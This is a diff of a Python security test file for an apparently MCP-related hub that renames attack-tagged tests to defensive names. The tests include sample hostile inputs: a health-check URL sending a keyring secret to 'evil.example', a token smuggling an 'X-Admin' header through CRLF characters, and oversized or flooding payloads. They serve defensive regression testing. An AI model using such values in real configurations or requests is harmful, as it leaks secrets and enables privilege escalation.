@@ -47,7 +47,7 @@ pytestmark = pytest.mark.anyio
 
 
 @pytest.mark.attack("R2-A-1")
-async def test_fill_the_memory_with_the_uris_of_subscriptions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_subscription_uris_are_bounded_per_caller(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(subscriptions, "MAX_CALLER_BYTES", 100_000)
     path = "/mcp/server/a"
     async with edge(tmp_path) as found:
@@ -74,7 +74,7 @@ async def test_fill_the_memory_with_the_uris_of_subscriptions(tmp_path: Path, mo
 
 
 @pytest.mark.attack("R2-A-2")
-async def test_get_a_key_without_limits_by_a_field_that_is_not_read(tmp_path: Path) -> None:
+async def test_unknown_field_in_a_key_request_is_rejected(tmp_path: Path) -> None:
     async with edge(tmp_path) as found:
         for field in ({"scope": ["both"]}, {"Scopes": ["both"]}, {"rateLimit": "1/s"}, {"admin": "false"}):
             answer = await found.ask("POST", "/admin/keys", {"name": "ci", **field})
@@ -85,7 +85,7 @@ async def test_get_a_key_without_limits_by_a_field_that_is_not_read(tmp_path: Pa
 
 
 @pytest.mark.attack("R2-A-3")
-async def test_open_servers_that_a_scope_does_not_name_by_a_pattern(tmp_path: Path) -> None:
+async def test_pattern_in_a_key_scope_is_rejected(tmp_path: Path) -> None:
     async with edge(tmp_path) as found:
         for scope in ("server/*", "server/?", "server/a*", "*", "", "server/", "/admin", "both\n"):
             answer = await found.ask("POST", "/admin/keys", {"name": "ci", "scopes": [scope]})
@@ -101,7 +101,7 @@ async def test_open_servers_that_a_scope_does_not_name_by_a_pattern(tmp_path: Pa
 
 
 @pytest.mark.attack("R2-A-4")
-async def test_fill_the_memory_with_the_uris_of_finished_reads(tmp_path: Path) -> None:
+async def test_uris_of_finished_reads_are_truncated(tmp_path: Path) -> None:
     async with edge(tmp_path) as found:
         for start in ("fake://item/", "unknown://"):
             body = handshake("resources/read", {"uri": start + "x" * 1_000_000})
@@ -111,7 +111,7 @@ async def test_fill_the_memory_with_the_uris_of_finished_reads(tmp_path: Path) -
 
 
 @pytest.mark.attack("R2-A-5")
-async def test_fill_the_memory_with_the_arguments_of_cached_calls(monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_arguments_of_cached_calls_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(cache, "MAX_BYTES", 3_000_000)
     entry = {"tools": {"echo": {"effect": "read", "cache": "1h"}}}
     async with Hub({"a": {**fake_server(), **entry}}) as hub:
@@ -132,7 +132,7 @@ async def test_fill_the_memory_with_the_arguments_of_cached_calls(monkeypatch: p
 
 
 @pytest.mark.attack("R2-B-1")
-def test_run_a_planted_command_by_a_variable_of_the_users_env_file(machine: Machine) -> None:
+def test_env_file_variable_that_changes_a_command_needs_trust(machine: Machine) -> None:
     def used() -> list[str]:
         return list(json.loads(machine.toolway("config", "validate", "--json").stdout)["servers"])
 
@@ -162,7 +162,7 @@ def test_run_a_planted_command_by_a_variable_of_the_users_env_file(machine: Mach
 
 
 @pytest.mark.attack("R2-B-2")
-def test_have_a_secret_put_together_by_removing_characters(tmp_path: Path) -> None:
+def test_secret_with_invisible_characters_inside_is_masked(tmp_path: Path) -> None:
     secret = "Zq8wT3xK9-Lm2vB"
     program = (
         "import os, sys\nsecret = os.environ['PLAIN']\n"
@@ -179,7 +179,7 @@ def test_have_a_secret_put_together_by_removing_characters(tmp_path: Path) -> No
 
 
 @pytest.mark.attack("R2-B-3")
-def test_send_a_secret_to_another_receiver_than_the_shown_one() -> None:
+def test_review_shows_the_actual_receiver_of_a_secret() -> None:
     for key in (
         {"healthCheckUrl": "https://evil.example/${keyring:bank}"},
         {"health": {"url": "https://evil.example/${keyring:bank}"}},
@@ -189,7 +189,7 @@ def test_send_a_secret_to_another_receiver_than_the_shown_one() -> None:
 
 
 @pytest.mark.attack("R2-B-4")
-def test_hide_the_folder_of_code_behind_the_mask_of_a_token(machine: Machine) -> None:
+def test_review_shows_code_folders_that_look_like_tokens(machine: Machine) -> None:
     folder = "AKIAIOSFODNN7EXAMPLE"  # a folder of the repository with the form of a token
     env = {"PYTHONPATH": folder, "NODE_OPTIONS": f"sk-{folder}", "API_TOKEN": f"sk-{folder}x"}
     machine.write("project/.mcp.json", {"mcpServers": {"x": {"command": "python3", "args": ["-m", "y"], "env": env}}})
@@ -199,7 +199,7 @@ def test_hide_the_folder_of_code_behind_the_mask_of_a_token(machine: Machine) ->
 
 
 @pytest.mark.attack("R2-B-5")
-def test_remove_all_macs_of_a_log_that_is_verified_through_a_link(tmp_path: Path) -> None:
+def test_log_without_macs_fails_verification_through_a_link(tmp_path: Path) -> None:
     folder = tmp_path / "real"
     folder.mkdir()
     (tmp_path / "link").symlink_to(folder)
@@ -226,9 +226,9 @@ def test_remove_all_macs_of_a_log_that_is_verified_through_a_link(tmp_path: Path
 
 
 @pytest.mark.attack("R2-C-1")
-async def test_undo_a_revocation_by_reading_the_database_file(tmp_path: Path) -> None:
+async def test_reading_the_database_file_does_not_undo_writes(tmp_path: Path) -> None:
     """Another process opens the file and closes it. If the node had no locks, that would delete the `-wal` file: the
-    node would go on writing into a deleted file, and a restart would bring back what was there before."""
+    node would continue writing into a deleted file, and a restart would bring back what was there before."""
     file = tmp_path / "record"
     engine = open_engine(f"sqlite:///{file}")
     try:
@@ -261,7 +261,7 @@ async def test_undo_a_revocation_by_reading_the_database_file(tmp_path: Path) ->
         b'{"access_token": {"value": "AT-of-the-user"}, "token_type": "Bearer"}',
     ],
 )
-async def test_read_a_token_in_the_error_of_a_login(answer: bytes) -> None:
+async def test_login_error_shows_no_token(answer: bytes) -> None:
     """An issuer that answers in another form than expected, as some do, must not bring tokens into errors and logs."""
     failed = await _login_with(answer)
     assert "the login failed" in failed
@@ -269,7 +269,7 @@ async def test_read_a_token_in_the_error_of_a_login(answer: bytes) -> None:
 
 
 @pytest.mark.attack("R2-C-2")
-async def test_read_what_was_sent_to_the_issuer_in_the_error_of_a_login() -> None:
+async def test_login_error_shows_no_request_data() -> None:
     failed = await _login_with(b"you sent code-of-the-user", status="303 See Other")
     assert "did not issue a token (303)" in failed
     assert "of-the-user" not in failed
@@ -277,7 +277,7 @@ async def test_read_what_was_sent_to_the_issuer_in_the_error_of_a_login() -> Non
 
 @pytest.mark.attack("R2-C-3")
 @pytest.mark.parametrize("token", ["a\\r\\nX-Admin: 1", "a\\u0000b", "", "a b"])
-async def test_put_a_header_into_requests_by_a_token(token: str) -> None:
+async def test_token_with_invalid_characters_is_rejected_at_login(token: str) -> None:
     """Such a token is refused when the login ends, and not stored: each later start would fail with it."""
     failed = await _login_with(f'{{"access_token": "{token}", "token_type": "Bearer"}}'.encode())
     assert "it returned a token that is empty, or has characters other than visible ASCII" in failed
@@ -337,7 +337,7 @@ async def _login_with(answer: bytes, status: str = "200 OK") -> str:
 
 
 @pytest.mark.attack("R2-C-4")
-def test_read_a_secret_of_which_every_character_is_url_encoded() -> None:
+def test_fully_url_encoded_secret_is_masked() -> None:
     secret = "Tq7vLm2Xk9Zp4Rw8"
     encoded = "".join(f"%{ord(char):02X}" for char in secret)
     mask = replacer.build_replacer([secret])
@@ -346,7 +346,7 @@ def test_read_a_secret_of_which_every_character_is_url_encoded() -> None:
 
 @pytest.mark.attack("R2-C-5")
 @pytest.mark.parametrize(("of_entry", "of_document"), [("X-Api-Key", "X_Api_Key"), ("x_api_key", "X-Api-Key")])
-def test_replace_a_header_of_the_entry_by_another_spelling(of_entry: str, of_document: str) -> None:
+def test_document_cannot_replace_an_entry_header_by_spelling(of_entry: str, of_document: str) -> None:
     """CGI and WSGI servers take `X_Api_Key` and `X-Api-Key` for the same header."""
     names = [of_document, "Content_Length", "X-Other"]
     parameters = [{"name": name, "in": "header", "schema": {"type": "string"}} for name in names]
@@ -392,7 +392,7 @@ class _Received:
 
 @pytest.mark.attack("R2-C-6")
 @pytest.mark.parametrize("frame", [b"\x89\x00", b"\x00\x00"], ids=["pings", "fragments"])
-async def test_stop_a_hub_with_empty_frames_of_a_websocket(frame: bytes) -> None:
+async def test_websocket_flood_of_empty_frames_does_not_block_the_loop(frame: bytes) -> None:
     async def flood(connection: ServerConnection) -> None:
         start = b"\x01\x01o" if frame[0] == 0 else b""  # the first fragment of a message
         end = b"\x80\x01k" if frame[0] == 0 else b"\x81\x02ok"
